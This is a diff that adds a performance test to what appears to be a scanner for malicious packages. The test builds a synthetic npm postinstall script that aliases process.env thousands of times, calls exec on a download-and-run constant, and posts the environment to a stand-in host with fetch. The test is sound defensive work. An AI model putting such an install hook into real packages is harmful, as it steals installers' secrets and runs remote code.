@@ -77,3 +77,19 @@ def test_a_build_module_of_thousands_of_parts_costs_no_minutes(
     analysis, seconds = _cpu_seconds(engine, sdist({name: config}, setup_py=setup_py))
     assert_analysed(analysis)
     assert seconds < 1.5
+
+
+def test_an_install_script_of_thousands_of_environment_aliases_costs_no_minutes(
+    engine: Engine,
+) -> None:
+    """Each alias searched the whole file for its serialiser: quadratic (6 s here)."""
+    script = (
+        "const { exec } = require('child_process');\n"
+        + "".join(f"var e{i} = process.env;\n" for i in range(6000))
+        + f"exec('{DOWNLOAD_AND_RUN}');\n"
+        + "fetch('https://x.example.net/', {body: JSON.stringify(e1)});\n"
+    )
+    archive = npm_tarball({"install.js": script}, scripts={"postinstall": "node install.js"})
+    analysis, seconds = _cpu_seconds(engine, archive)
+    assert_analysed(analysis)
+    assert seconds < 1.5
